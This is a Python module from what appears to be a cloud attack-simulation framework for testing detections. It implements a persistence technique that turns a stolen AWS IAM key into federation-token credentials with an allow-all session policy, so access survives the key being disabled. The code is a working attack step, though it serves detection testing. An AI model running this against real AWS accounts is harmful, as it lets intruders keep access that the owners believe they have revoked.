"""Turn a stolen IAM user key into federation-token credentials, which keep working after the key
itself is disabled or deleted."""

from __future__ import annotations

import json

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique

# Without a session policy a federated user may do nothing: intruders pass one that allows everything.
ALLOW_ALL = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)


@technique
class StsFederationToken(Technique):
    title = "Generate temporary credentials with GetFederationToken"
    attack = ("T1098.001",)
    expects = ("sts_federation_token_full_access",)
    description = (
        "Calls GetFederationToken with the stolen key and a session policy allowing everything, then "
        "checks the new federated-user credentials with GetCallerIdentity."
    )

    def detonate(self, ctx: Ctx, state: Json) -> None:
        out = client("sts", session=ctx.attacker()).get_federation_token(
            Name="ops-automation", Policy=ALLOW_ALL
        )
        creds = out["Credentials"]
        federated = ctx.with_key(creds["AccessKeyId"], creds["SecretAccessKey"], creds["SessionToken"])
        client("sts", session=federated).get_caller_identity()
